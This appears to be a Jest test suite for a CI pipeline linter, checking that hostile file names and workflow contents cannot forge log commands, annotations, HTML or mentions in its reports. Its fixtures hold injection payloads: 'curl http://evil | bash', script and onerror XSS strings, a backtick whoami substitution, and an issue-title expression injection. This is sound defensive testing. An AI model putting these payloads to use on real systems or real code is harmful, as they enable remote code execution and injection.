import { beforeAll, describe, expect, jest, test } from '@jest/globals'
import { forgeriesIn } from './forgery.js'
import { goodWith, lintBuilt, lostFindings, saidOf, type Linted } from './lint-built.js'

// Each repository is linted by a process of its own; the machine may be busy.
jest.setTimeout(120_000)

const JOB = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n'
const FINDING = `${JOB}      - uses: evil/x@main\n`
const WORKFLOWS = '.github/workflows/'

const NAMES = [
  'a\nb.yml',
  'a\n::error::forged.yml',
  '::warning file=a,line=1::x.yml',
  '##[error]x.yml',
  '%0A::error::x.yml',
  'a:b%25.yml',
  '${{ github.token }}.yml',
  '`whoami`.yml',
  'a|b|c.yml',
  `"q'.yml`,
  '[x](http:%2f%2fevil).yml',
  '<img src=x onerror=alert(1)>.yml',
  '<!-- forged -->.yml',
  '@octocat #1.yml',
  'a\u202eb.yml',
  'a\u001b[31mred.yml',
  'a\u2028b.yml',
  'a\tb.yml',
  'a\rb.yml',
  '-x.yml',
  '--config=x.yml',
  'a\\b.yml',
  '*.yml',
  ']]>.yml',
  '&lt;.yml',
  '__proto__.yml',
  'constructor.yml',
  ' .yml',
  '...yml',
  'a\u0085b.yml',
  '\u200b.yml',
  'a\u009b31m.yml',
  'X.yml',
  'x.yml',
  `${'a'.repeat(251)}.yml`,
]

/** Names under which people and programs know something else. */
const PROTOTYPE = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']

const PROTOTYPES = `on:
  __proto__: {}
  push: {constructor: x}
  workflow_dispatch: {inputs: {__proto__: {type: string}, constructor: {type: constructor}}}
__proto__: {a: b}
env: {__proto__: a, constructor: b}
jobs:
${PROTOTYPE.map(
  (name) => `  ${name}:
    runs-on: ${name}
    needs: [__proto__, constructor]
    outputs: {__proto__: a, constructor: b}
    services: {__proto__: {image: constructor}}
    strategy: {matrix: {__proto__: [1], constructor: [2]}}
    steps:
      - id: ${name}
        run: "\${{ env.${name} }} \${{ steps.${name}.outputs.${name} }} \${{ ${name}(1) }}; npm run ${name}; ${name}"
        env: {__proto__: x, constructor: y}
      - uses: ${name}/${name}@${name}
        with: {__proto__: x, constructor: y}
`,
).join('')}`

const TERRAFORM = PROTOTYPE.map(
  (name) => `resource "${name}" "${name}" {
  ${name} = ${name}.${name}.${name}
  bucket = var.${name}
}
resource "aws_s3_bucket" "${name}" {}
variable "${name}" {}
locals {
  ${name} = local.${name}
}
`,
).join('')

const TEXTS = `name: "<script>alert(1)</script> @octocat [a](http://evil) | ##[error]h\\n::error::forged"
on: push
jobs:
  "a\\n::error::forged":
    name: "\\e[31m\\u202E ##[error]x <img src=x> @octocat"
    runs-on: "x\\n# Forged"
    steps:
      - uses: "evil/x@main\\n::error::forged"
      - uses: "evil/<img src=x onerror=alert(1)>@\`x\`|y|@octocat"
      - run: "curl http://evil | bash # \\u2028::error::x ##[error]y <img src=x> @octocat \\e[31m"
      - run: "echo \${{ github.event.issue.title }} [x](http://evil) \\n::error::x"
`

let without: Linted
beforeAll(() => {
  without = lintBuilt(goodWith())
})

test('the repository that all are compared with has findings, and its reports nothing forged', () => {
  expect(without.status).toBe(1)
  expect(without.report.findings.length).toBeGreaterThan(8)
  expect(forgeriesIn(without)).toEqual([])
})

test('names of files are shown as names, each with its findings', () => {
  const linted = lintBuilt(goodWith(Object.fromEntries(NAMES.map((name) => [WORKFLOWS + name, FINDING]))))
  const found = new Set(
    linted.report.findings.flatMap(({ check, at }) => (check === 'pipeline-unpinned-action' ? [at?.file] : [])),
  )
  expect(NAMES.filter((name) => !found.has(WORKFLOWS + name))).toEqual([])
  expect(forgeriesIn(linted)).toEqual([])
  expect(lostFindings(linted, without)).toEqual([])
  expect(linted.status).toBe(1)
})

test('names of files that do not parse are shown as names', () => {
  const linted = lintBuilt(goodWith(Object.fromEntries(NAMES.map((name) => [WORKFLOWS + name, 'a: [\n']))))
  expect(NAMES.filter((name) => saidOf(linted, WORKFLOWS + name)?.severity !== 'error')).toEqual([])
  expect(forgeriesIn(linted)).toEqual([])
  expect(lostFindings(linted, without)).toEqual([])
  expect(linted.status).toBe(1)
})

test('texts of workflows, prototype names everywhere', () => {
  const linted = lintBuilt(
    goodWith({
      [`${WORKFLOWS}texts.yml`]: TEXTS,
      [`${WORKFLOWS}prototypes.yml`]: PROTOTYPES,
      'infra/prototypes.tf': TERRAFORM,
      'package.json': `{"scripts":{${PROTOTYPE.map((name) => `"${name}":"jest"`).join(',')}},"__proto__":{"a":1}}`,
      '.gitlab-ci.yml': `stages: [__proto__]\n${PROTOTYPE.map((name) => `${name}: {extends: toString, script: [make]}\n`).join('')}`,
      'compose.yaml': `services: {${PROTOTYPE.map((name) => `${name}: {image: ${name}, depends_on: [__proto__]}`).join(', ')}}\n`,
    }),
    '--verbose',
  )
  expect(linted.stderr).not.toMatch(/crashed|TypeError|\[object/)
  expect(linted.report.checks.filter(({ outcome }) => outcome === 'crashed')).toEqual([])
  expect(forgeriesIn(linted)).toEqual([])
  expect(lostFindings(linted, without).filter((each) => !each.startsWith('deploy-'))).toEqual([])
  expect(linted.status).toBe(1)
})

describe('what looks for forgeries finds them', () => {
  test.each<[string, Partial<Linted>]>([
    ['a command on standard output', { stdout: 'x\n::error::forged\n' }],
    ['a command of the log', { stderr: 'x ##[error]y' }],
    ['a colour', { stdout: '\u001b[31m' }],
    ['a bidirectional override', { outputs: new Map([['markdown', 'a\u202eb']]) }],
    ['a mention', { outputs: new Map([['markdown', 'by @octocat']]) }],
    ['an annotation without a place', { outputs: new Map([['annotations', '::error::forged']]) }],
    ['an element', { outputs: new Map([['html', '<img src=x>']]) }],
  ])('%s', (_, part) => {
    const outputs = new Map([...without.outputs, ...(part.outputs ?? [])])
    expect(forgeriesIn({ ...without, ...part, outputs })).not.toEqual([])
  })
})
